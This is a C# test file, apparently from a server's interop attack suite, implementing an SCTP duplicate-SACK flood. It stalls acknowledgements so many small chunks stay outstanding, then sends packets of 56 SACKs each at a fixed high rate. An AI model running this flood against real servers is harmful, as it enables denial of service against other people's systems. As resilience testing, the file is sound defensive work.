using System.Buffers.Binary;
using System.Text.Json.Nodes;
using Tureen.Engine.Primitives;
using Tureen.Interop.Tests.Native;
using Tureen.Tests.Engine.Sctp;

namespace Tureen.Interop.Tests.Attacks.Sctp;

/// <summary>56 SACK chunks in each packet, while as many chunks of the server are outstanding as it lets be.</summary>
internal sealed class SackAttack : SctpAttack
{
    private const int SacksPerPacket = 56;
    private const int GrowthMessage = 1_000;
    private const uint Window = 8 << 20;
    private const uint BinaryPayload = 53;

    /// <summary>Messages that let the congestion window grow, and small ones that fill it with chunks.</summary>
    private const int GrowthMessages = 2_000;
    private const int SmallMessages = 20_000;

    private uint _lastTsn;

    public override string Name => "S3 SACKs";

    protected override double PacketsPerSecond => 812;

    public override async Task<string> RunAsync(AttackScene scene, TimeSpan duration)
    {
        // 1. Two peers: what one writes in the chat, the server sends to the other.
        Participant writer = await scene.JoinAsync("writer");
        Participant reader = await scene.JoinAsync("reader");
        var source = new RawAssociation(scene.Network, writer.Sending);
        await source.ConnectAsync();
        var association = new RawAssociation(scene.Network, reader.Receiving);
        await association.ConnectAsync();
        await writer.Signaling.RequestAsync("produceData", new JsonObject
        {
            ["transportId"] = writer.SendTransport.Id,
            ["sctpStreamParameters"] = new JsonObject { ["streamId"] = 0, ["ordered"] = true },
            ["label"] = "chat",
            ["protocol"] = string.Empty,
            ["appData"] = new JsonObject { ["channel"] = "chat" },
        });
        await reader.Signaling.WaitForAsync("newDataConsumer", 2);

        // 2. First all is acknowledged, then nothing.
        _lastTsn = association.PeerInitialTsn - 1;
        bool isAcknowledging = true;
        association.ChunkReceived = (now, type, value, sink) =>
        {
            if (type == RawAssociation.DataChunk)
            {
                _lastTsn = isAcknowledging ? BinaryPrimitives.ReadUInt32BigEndian(value) : _lastTsn;
                if (isAcknowledging)
                {
                    association.Send(now, Sack(_lastTsn), sink);
                }
            }
        };
        uint tsn = source.NextTsn;
        ushort sequence = 0;
        await scene.Network.SendAsync(1_000, TimeSpan.FromSeconds(GrowthMessages / 1_000), (now, sink) =>
            source.Send(now, Message(tsn++, sequence++, GrowthMessage), sink));
        await scene.Network.InvokeAsync((_, _) => isAcknowledging = false);
        await scene.Network.SendAsync(SmallMessages / 55, TimeSpan.FromSeconds(1), (now, sink) =>
        {
            source.Send(now, [.. Enumerable.Range(0, 55).SelectMany(_ => Message(tsn++, sequence++, 1))], sink);
        });

        // 3. Acknowledgements of what is acknowledged already.
        return await RunAsync(scene, association, duration);
    }

    protected override IEnumerable<byte[]> Packets(RawAssociation association)
    {
        byte[] packet = [.. Enumerable.Range(0, SacksPerPacket).SelectMany(_ => Sack(_lastTsn))];
        while (true)
        {
            yield return packet;
        }
    }

    private static byte[] Sack(uint tsn) =>
        SctpPacketBytes.Chunk(RawAssociation.SackChunk, 0, [.. SctpPacketBytes.Number(tsn), .. SctpPacketBytes.Number(Window), 0, 0, 0, 0]);

    private static byte[] Message(uint tsn, ushort sequence, int length) => SctpPacketBytes.Chunk(RawAssociation.DataChunk, 3, [
        .. SctpPacketBytes.Number(tsn), 0, 0, (byte)(sequence >> 8), (byte)sequence, .. SctpPacketBytes.Number(BinaryPayload), .. new byte[length]]);
}
